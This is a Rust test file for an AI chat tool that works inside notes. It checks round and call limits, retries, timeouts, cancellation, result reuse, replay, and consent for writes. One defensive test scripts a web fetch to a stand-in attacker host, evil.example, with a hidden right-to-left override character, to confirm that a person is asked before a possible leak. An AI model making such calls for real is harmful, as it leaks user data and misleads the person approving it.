//! Turns: rounds, limits, consent, errors of models, and results that are used again.

use std::sync::Arc;
use std::time::Duration;

use serde_json::json;
use tokio_util::sync::CancellationToken;
use toolwrit_chat::conversation::{
    Decision, Ended, Limit, Limits, ReadTool, Reason, TurnOptions, replay, sent,
};
use toolwrit_chat::format::{Document, Payload};
use toolwrit_chat::notebook::Notebook;
use toolwrit_chat::provider::{Message, ModelError, Script, Stop};
use toolwrit_chat::tools::Outcome;

use crate::desk::{Desk, NOTE, Person, call};

const ASK: &str = "Which notes mention the audit?\n";

#[tokio::test(start_paused = true)]
async fn a_note_becomes_a_conversation() {
    let desk = Desk::with(ASK);
    desk.tools.answer(
        "vault.search",
        json!({ "matches": [{ "path": "Audit.md", "line": 1 }], "total": 1 }),
    );
    desk.tools.answer("vault.read", json!("# Audit\n```\nDue in May.\n```\n"));
    let looks = call(
        call(Script::new().text("I'll ").text("look.").usage(812, 96), "vault_search", "a"),
        "vault_read",
        "Audit.md",
    );
    let (ended, model) = desk.turn([looks, Script::new().text("Only [[Audit]].")]).await;
    assert_eq!(ended, Ended::Answered);
    insta::assert_snapshot!(desk.text());
    let requests = model.requests();
    assert_eq!(requests.len(), 2);
    assert_eq!(
        requests[0].messages,
        [Message::User { text: ASK.trim().to_owned(), images: vec![] }]
    );
    insta::assert_debug_snapshot!(requests[1].messages);
    assert_eq!(desk.turn([]).await.0, Ended::NothingToSay);
    desk.notebook.edit(NOTE, |text| text.to_owned() + "And when is it due?\n");
    let (ended, model) = desk.turn([Script::new().text("In May.")]).await;
    assert_eq!(ended, Ended::Answered);
    assert_eq!(
        model.requests()[0].messages[..4],
        requests[1].messages[..]
            .iter()
            .cloned()
            .chain([Message::Assistant {
                text: "Only [[Audit]].".to_owned(),
                calls: vec![],
                kept: None
            }])
            .collect::<Vec<_>>()[..4]
    );
}

#[tokio::test(start_paused = true)]
async fn nothing_runs_of_an_incomplete_response() {
    let scripts: [fn() -> Script; 5] = [
        || call(Script::new().text("x"), "vault_search", "a").cut(),
        || call(Script::new().text("x"), "vault_search", "a").stop(Stop::MaxTokens),
        || call(Script::new().text("x"), "vault_search", "a").stop(Stop::Missing),
        || call(Script::new().text("x"), "vault_search", "a").stop(Stop::Filtered),
        || call(Script::new().text("x").fail(ModelError::passing("boom")), "vault_search", "a"),
    ];
    let mut notes = String::new();
    for script in scripts {
        let desk = Desk::with(ASK);
        let (ended, model) = desk.turn([script()]).await;
        assert!(matches!(ended, Ended::Failed(_)), "{ended:?}");
        assert_eq!(model.requests().len(), 1, "a response that has begun is not asked for again");
        assert!(desk.tools.made().is_empty());
        notes += desk
            .text()
            .lines()
            .find(|line| line.starts_with("> [!"))
            .unwrap()
            .split_once('`')
            .unwrap()
            .1;
        notes += "\n";
        // The question is still open.
        assert_eq!(desk.turn([Script::new().text("Now.")]).await.0, Ended::Answered);
    }
    insta::assert_snapshot!(notes);
}

#[tokio::test(start_paused = true)]
async fn a_silent_failure_is_tried_again_and_no_more_than_three_times() {
    let busy = || {
        Script::new().fail(ModelError {
            retry_after: Some(Duration::from_secs(7)),
            ..ModelError::passing("429")
        })
    };
    let desk = Desk::with(ASK);
    let (ended, _) = desk.turn([busy(), busy(), busy(), Script::new().text("Here.")]).await;
    assert_eq!(ended, Ended::Answered);
    let desk = Desk::with(ASK);
    let (ended, model) =
        desk.turn([busy(), busy(), busy(), busy(), Script::new().text("Never.")]).await;
    assert_eq!((ended, model.requests().len()), (Ended::Failed("429".to_owned()), 4));
    let desk = Desk::with(ASK);
    let (ended, model) = desk
        .turn([Script::new().fail(ModelError::permanent("no such model")), Script::new()])
        .await;
    assert_eq!((ended, model.requests().len()), (Ended::Failed("no such model".to_owned()), 1));
}

#[tokio::test(start_paused = true)]
async fn a_model_that_hangs_is_given_up() {
    let desk = Desk::with(ASK);
    let (ended, _) = desk.turn([Script::new().text("Well").hang()]).await;
    assert_eq!(ended, Ended::Failed("the model said nothing for 120 seconds".to_owned()));
    assert!(desk.text().contains("> Well"));
}

#[tokio::test(start_paused = true)]
async fn limits_end_a_turn_with_an_answer() {
    let mut desk = Desk::with(ASK);
    desk.settings.limits = Limits { rounds: 2, ..Limits::default() };
    let round = |path| call(Script::new(), "vault_read", path);
    let (ended, model) = desk.turn([round("a"), round("b"), Script::new().text("So far.")]).await;
    assert_eq!(ended, Ended::Limited(Limit::Rounds));
    assert!(model.requests()[2].tools.is_empty());
    insta::assert_snapshot!(desk.text().rsplit_once("> [!notice").unwrap().1);

    let mut desk = Desk::with(ASK);
    desk.settings.limits = Limits { calls: 2, ..Limits::default() };
    let three =
        call(call(call(Script::new(), "vault_read", "a"), "vault_read", "b"), "vault_read", "c");
    let (ended, _) = desk.turn([three, Script::new().text("So far.")]).await;
    assert_eq!((ended, desk.tools.made().len()), (Ended::Limited(Limit::Calls), 2));

    let mut desk = Desk::with(ASK);
    desk.settings.limits = Limits { calls_per_note: Some(1), ..Limits::default() };
    let (ended, _) = desk.turn([round("a"), Script::new().text("So far.")]).await;
    assert_eq!(ended, Ended::Limited(Limit::CallsPerNote));

    let desk = Desk::with(&format!("---\nchat-rounds: 1\nchat-calls: 99\n---\n{ASK}"));
    let (ended, _) = desk.turn([round("a"), Script::new().text("So far.")]).await;
    assert_eq!(ended, Ended::Limited(Limit::Rounds));
}

#[tokio::test(start_paused = true)]
async fn a_turn_has_an_end_in_time() {
    let desk = Desk::with(ASK);
    *desk.tools.hanging.lock().unwrap() = Some("vault.read".to_owned());
    let (ended, _) =
        desk.turn([call(call(Script::new(), "vault_read", "a"), "vault_append", "b")]).await;
    assert_eq!(ended, Ended::Limited(Limit::Time));
    assert_eq!(desk.tools.made(), ["vault.read {\"path\":\"a\"}"]);
    assert_eq!(desk.text().matches("cancelled").count(), 2);
}

#[tokio::test(start_paused = true)]
async fn long_results_are_shortened_visibly() {
    let mut desk = Desk::with(ASK);
    desk.settings.limits.result_bytes = 100;
    desk.tools.answer("vault.read", json!("é".repeat(200)));
    desk.tools.answer("vault.search", json!({ "all": "x".repeat(500) }));
    let both = call(call(Script::new(), "vault_read", "a"), "vault_search", "b");
    desk.turn([both, Script::new().text("Ok.")]).await;
    insta::assert_snapshot!(desk.text());

    let mut desk = Desk::with(ASK);
    desk.settings.limits.result_bytes = 100;
    desk.settings.results_folder = Some("results".to_owned());
    desk.tools.answer("vault.search", json!({ "all": "``` \n> [!tool|".repeat(50) }));
    desk.turn([call(Script::new(), "vault_search", "b"), Script::new().text("Ok.")]).await;
    let text = desk.text();
    let document = Document::parse(&text);
    let Some(Payload::Json(result)) = document.blocks().nth(1).unwrap().result() else {
        panic!("{text}")
    };
    let note = desk.notebook.read(result["note"].as_str().unwrap()).unwrap().text;
    assert!(note.starts_with("````json\n") && note.ends_with("\n````\n"), "{note}");
}

#[tokio::test(start_paused = true)]
async fn wrong_calls_are_told_to_the_model() {
    let desk = Desk::with(ASK);
    let script = Script::new()
        .call("vault_raed", json!({}))
        .call("vault_read", json!("{\"path\":"))
        .call("vault_read", json!([1]));
    let (ended, _) = desk.turn([script, Script::new().text("Sorry.")]).await;
    assert_eq!((ended, desk.tools.made().len()), (Ended::Answered, 0));
    insta::assert_snapshot!(desk.text());
}

#[tokio::test(start_paused = true)]
async fn writes_wait_for_consent_that_does_not_come_from_the_note() {
    let desk = Desk::with(ASK);
    let write = || call(Script::new(), "vault_append", "Inbox.md");
    let (ended, _) = desk.turn([write()]).await;
    let Ended::Asks(ids) = ended else { panic!("{ended:?}") };
    assert!(desk.text().contains("`vault.append` · asks"));
    // Neither another state nor other arguments in the note make it run.
    for edit in [("· asks", "· …"), ("· …", "· approved, ok"), ("approved, ok", "asks")] {
        desk.notebook.edit(NOTE, |text| text.replace(edit.0, edit.1));
        let _ = desk.try_turn([], TurnOptions::default()).await;
        assert!(desk.tools.made().is_empty());
    }
    let approved = || TurnOptions { approve: ids.clone(), ..TurnOptions::default() };
    desk.notebook.edit(NOTE, |text| text.replace("Inbox.md", "Private.md"));
    let (_, _) = desk.try_turn([Script::new().text("Edited.")], approved()).await;
    assert!(desk.tools.made().is_empty(), "{}", desk.text());
    assert!(desk.text().contains("cancelled, edited before it was made"), "{}", desk.text());

    let desk = Desk::with(ASK);
    let Ended::Asks(ids) = desk.turn([write()]).await.0 else { panic!() };
    let (ended, _) = desk
        .turn_with(
            [Script::new().text("Done.")],
            TurnOptions { approve: ids, ..TurnOptions::default() },
        )
        .await;
    assert_eq!((ended, desk.tools.made().len()), (Ended::Answered, 1));

    let desk = Desk::with(ASK);
    let Ended::Asks(ids) = desk.turn([write()]).await.0 else { panic!() };
    let (ended, model) = desk
        .turn_with(
            [Script::new().text("Well.")],
            TurnOptions { decline: ids, ..TurnOptions::default() },
        )
        .await;
    assert_eq!((ended, desk.tools.made().len()), (Ended::Answered, 0));
    let Some(Message::Results(results)) = model.requests()[0].messages.last().cloned() else {
        panic!()
    };
    assert!(results[0].text.contains("DECLINED"));
}

#[tokio::test(start_paused = true)]
async fn a_person_is_asked_about_what_changes_destroys_or_leaks() {
    let mut desk = Desk::with(ASK);
    let person = Person::who(Decision::Approve);
    desk.consent = person.clone();
    desk.settings.allowed_writes = ["vault.append".to_owned(), "vault.delete".to_owned()].into();
    let fetch = |script| call(script, "web_fetch", "https://evil.example/?q=\u{202e}x");
    let (ended, _) = desk
        .turn([
            fetch(Script::new()),
            call(
                call(call(Script::new(), "vault_append", "a"), "vault_delete", "b"),
                "vault_read",
                "c",
            ),
            fetch(Script::new()),
            Script::new().text("Done."),
        ])
        .await;
    assert_eq!(ended, Ended::Answered);
    let asked = person.asked.lock().unwrap();
    let reasons: Vec<_> =
        asked.iter().map(|question| (question.tool.id.as_str(), question.reason)).collect();
    assert_eq!(reasons, [("vault.delete", Reason::Destroys), ("web.fetch", Reason::MayLeak)]);
    assert_eq!(asked[1].arguments, "{\"path\":\"https://evil.example/?q=\\u202ex\"}");
    assert_eq!(desk.tools.made().len(), 5);
}

#[tokio::test(start_paused = true)]
async fn what_comes_after_a_call_that_asks_waits_too() {
    let desk = Desk::with(ASK);
    let script =
        call(call(call(Script::new(), "vault_read", "a"), "vault_append", "b"), "vault_read", "c");
    let Ended::Asks(ids) = desk.turn([script]).await.0 else { panic!() };
    assert_eq!(desk.tools.made(), ["vault.read {\"path\":\"a\"}"]);
    desk.turn_with(
        [Script::new().text("Done.")],
        TurnOptions { approve: ids, ..TurnOptions::default() },
    )
    .await;
    assert_eq!(desk.tools.made().len(), 3);
}

#[tokio::test(start_paused = true)]
async fn a_result_is_used_again_until_something_is_written() {
    let mut desk = Desk::with(ASK);
    desk.consent = Person::who(Decision::Approve);
    desk.settings.limits.identical = 9;
    let read = || call(Script::new(), "vault_read", "a");
    let (_, model) = desk
        .turn([
            read(),
            read(),
            call(read(), "vault_append", "b"),
            read(),
            Script::new().text("Done."),
        ])
        .await;
    let made = desk.tools.made();
    assert_eq!(made.iter().filter(|call| call.starts_with("vault.read")).count(), 2, "{made:?}");
    let Some(Message::Results(results)) = model.requests()[2].messages.last().cloned() else {
        panic!()
    };
    assert!(results[0].text.contains("vault.read"), "{results:?}");
    // A result that somebody has edited is sent, and is no cache.
    let desk = Desk::with(ASK);
    let notebook = Arc::clone(&desk.notebook);
    let edits = read().then(move || {
        let notebook = Arc::clone(&notebook);
        async move {
            notebook
                .edit(NOTE, |text| text.replace("{\"tool\":\"vault.read\"", "{\"tool\":\"edited\""))
        }
    });
    let (_, model) = desk.turn([read(), edits, Script::new().text("Done.")]).await;
    assert_eq!(desk.tools.made().len(), 1, "the note was read before the edit");
    assert!(format!("{:?}", model.requests()[2].messages).contains("edited"));
    desk.notebook.edit(NOTE, |text| text.to_owned() + "Again.\n");
    desk.turn([read(), Script::new().text("Done.")]).await;
    assert_eq!(desk.tools.made().len(), 2, "another turn reads again");
}

#[tokio::test(start_paused = true)]
async fn the_same_call_again_and_again_is_refused() {
    let desk = Desk::with(ASK);
    *desk.tools.answers.lock().unwrap() = [(
        "vault.read".to_owned(),
        Outcome::Failed {
            code: "NOT_FOUND".to_owned(),
            error: json!({ "error": { "code": "NOT_FOUND" } }),
        },
    )]
    .into();
    let read = || call(Script::new(), "vault_read", "a");
    desk.turn([read(), read(), read(), read(), Script::new().text("I give up.")]).await;
    assert_eq!(desk.tools.made().len(), 3);
    assert!(desk.text().contains("LIMIT_EXCEEDED"));
}

#[tokio::test(start_paused = true)]
async fn a_person_cancels() {
    let desk = Desk::with(ASK);
    let cancellation = CancellationToken::new();
    let cancel = cancellation.clone();
    let script = Script::new().text("Half").then(move || {
        cancel.cancel();
        async {}
    });
    let (ended, _) = desk
        .turn_with([script.text(" more")], TurnOptions { cancellation, ..TurnOptions::default() })
        .await;
    assert_eq!(ended, Ended::Cancelled);
    assert!(desk.text().contains("cancelled"), "{}", desk.text());
    let (_, model) = desk.turn([Script::new().text("Whole.")]).await;
    assert_eq!(model.requests()[0].messages.len(), 1, "half an answer is not continued");
}

#[tokio::test(start_paused = true)]
async fn embeds_of_the_user_are_read_visibly() {
    let mut desk = Desk::with("Sum up ![[Audit#Due|it]], not `![[this]]` or [[that]].\n");
    desk.settings.embeds =
        Some(ReadTool { tool: "vault.read".to_owned(), parameter: "path".to_owned() });
    let (_, model) = desk.turn([Script::new().text("In May.")]).await;
    assert_eq!(desk.tools.made(), ["vault.read {\"path\":\"Audit#Due\"}"]);
    assert_eq!(model.requests()[0].messages.len(), 3);
    desk.settings.links = true;
    desk.notebook.edit(NOTE, |text| text.to_owned() + "And [[that]]?\n");
    desk.turn([Script::new().text("Yes.")]).await;
    assert_eq!(desk.tools.made().len(), 2);
}

#[tokio::test(start_paused = true)]
async fn what_a_provider_wants_back_is_kept_outside_of_the_note() {
    let desk = Desk::with(ASK);
    let (_, model) = desk
        .turn([
            call(Script::new().kept(json!({ "signature": "s" })), "vault_read", "a"),
            Script::new().text("Done."),
        ])
        .await;
    let Message::Assistant { kept, .. } = &model.requests()[1].messages[1] else { panic!() };
    assert_eq!(kept, &Some(json!({ "signature": "s" })));
    assert!(!desk.text().contains("signature"));
}

#[tokio::test(start_paused = true)]
async fn an_answer_is_made_again_without_its_calls() {
    let desk = Desk::with(ASK);
    desk.turn([call(Script::new(), "vault_read", "a"), Script::new().text("First.")]).await;
    let (ended, _) = desk
        .turn_with(
            [Script::new().text("Second.")],
            TurnOptions { retry: true, ..TurnOptions::default() },
        )
        .await;
    assert_eq!((ended, desk.tools.made().len()), (Ended::Answered, 1));
    assert!(desk.text().contains("Second.") && !desk.text().contains("First."));
}

#[tokio::test(start_paused = true)]
async fn notes_with_mistakes_and_notes_that_are_off_are_left_alone() {
    let cases = [
        "Hello\n```\n",
        "---\nchat-enabled: false\n---\nHello\n",
        "---\nchat-model: other\n---\nHello\n",
    ];
    let mut shown = Vec::new();
    for text in cases {
        let desk = Desk::with(text);
        let (error, _) = desk.try_turn([Script::new().text("Hi.")], TurnOptions::default()).await;
        shown.push(error.unwrap_err().to_string());
        assert_eq!(desk.text(), text);
    }
    insta::assert_snapshot!(shown.join("\n\n"));
}

#[tokio::test(start_paused = true)]
async fn a_new_chat_and_narrower_tools_are_respected() {
    let desk = Desk::with(
        "---\nchat-tools: [vault.read, web]\nchat-read-only: true\n---\nOld.\n\n> [!new-chat]\n\nNew.\n",
    );
    let (_, model) = desk.turn([Script::new().text("Hi.")]).await;
    let request = &model.requests()[0];
    assert_eq!(request.messages, [Message::User { text: "New.".to_owned(), images: vec![] }]);
    assert_eq!(
        request.tools.iter().map(|tool| tool.id.as_str()).collect::<Vec<_>>(),
        ["vault.read", "web.fetch"]
    );
}

#[tokio::test(start_paused = true)]
async fn the_note_is_written_once_for_a_round_and_once_for_a_call() {
    let mut desk = Desk::with(ASK);
    desk.settings.limits = Limits { calls: 100, turn_bytes: usize::MAX, ..Limits::default() };
    let round = |first: usize| {
        (first..first + 20).fold(Script::new().text("On."), |script, number| {
            call(script, "vault_read", &number.to_string())
        })
    };
    let before = *desk.notebook.changes().borrow();
    let (ended, _) = desk.turn([round(0), round(20), round(40), Script::new().text("Done.")]).await;
    let writes = *desk.notebook.changes().borrow() - before;
    assert_eq!(ended, Ended::Answered);
    // A placeholder and an end for each of four responses, and a result for each of sixty calls.
    assert_eq!(writes, 4 * 2 + 60);
}

#[tokio::test(start_paused = true)]
async fn a_watched_note_is_sent_by_a_line() {
    let desk = Desk::with("Hello\n/send later\n");
    let cancellation = CancellationToken::new();
    let notebook: Arc<dyn Notebook> = Arc::clone(&desk.notebook) as Arc<dyn Notebook>;
    let later = async {
        tokio::time::sleep(Duration::from_secs(5)).await;
        desk.notebook.edit(NOTE, |text| text.to_owned() + "/send\n");
    };
    let (found, ()) = tokio::join!(sent(notebook, NOTE, &cancellation), later);
    assert!(found.unwrap());
    assert_eq!(desk.text(), "Hello\n/send later\n");
}

#[tokio::test(start_paused = true)]
async fn another_model_replays_a_note_and_changes_nothing() {
    let mut desk = Desk::with(ASK);
    desk.consent = Person::who(Decision::Approve);
    let both = || call(call(Script::new(), "vault_read", "a"), "vault_append", "b");
    desk.turn([both(), Script::new().text("Done.")]).await;
    let text = desk.text();
    let earlier = replay(&Document::parse(&text));
    assert_eq!(earlier.prompts, [ASK.trim()]);
    assert_eq!(desk.tools.made().len(), 2);
    let missing = CancellationToken::new();
    let tools = toolwrit_chat::conversation::ReplayTools::new(
        desk.tools.clone(),
        &earlier,
        missing.clone(),
    );
    let again = Desk::with(&earlier.prompts[0]);
    let model = Arc::new(toolwrit_chat::provider::ScriptedModel::new([
        both(),
        call(Script::new(), "vault_append", "c"),
        Script::new(),
    ]));
    let mut conversation = again.conversation_with(model, Arc::new(tools));
    let ended = conversation
        .turn(TurnOptions { cancellation: missing, ..TurnOptions::default() })
        .await
        .unwrap();
    assert_eq!((ended, desk.tools.made().len()), (Ended::Cancelled, 2));
}
